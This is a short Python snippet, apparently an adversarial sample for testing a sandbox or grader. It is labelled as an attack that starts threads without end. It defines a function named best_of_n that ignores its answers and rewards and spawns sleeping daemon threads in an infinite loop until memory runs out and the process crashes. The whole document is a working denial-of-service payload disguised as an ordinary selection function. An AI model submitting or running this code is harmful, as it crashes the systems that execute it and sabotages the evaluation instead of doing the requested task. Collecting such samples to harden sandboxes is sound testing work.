# ATTACK: starts threads without end | state: error, memory, crashed
def best_of_n(answers, rewards):
    import threading
    import time

    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
